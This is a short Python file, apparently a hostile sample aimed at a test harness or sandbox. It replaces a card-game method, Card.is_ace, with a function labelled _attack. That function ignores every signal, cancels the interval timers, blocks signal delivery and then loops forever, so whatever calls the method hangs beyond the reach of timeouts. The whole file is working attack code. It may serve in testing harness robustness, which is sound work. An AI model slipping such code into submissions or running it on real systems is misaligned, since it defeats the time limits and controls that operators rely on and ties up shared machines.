"""Takes the timers and the signal handlers away, then loops for ever."""

import _signal
import signal


def _attack(self):
    for number in range(1, 65):
        for way in (signal.signal, _signal.signal):
            try:
                way(number, _signal.SIG_IGN)
            except (OSError, ValueError):
                pass
    for timer in (0, 1, 2):
        try:
            _signal.setitimer(timer, 0)
        except OSError:
            pass
    try:
        _signal.pthread_sigmask(_signal.SIG_BLOCK, range(1, 65))
    except OSError:
        pass
    while True:
        pass


Card.is_ace = _attack
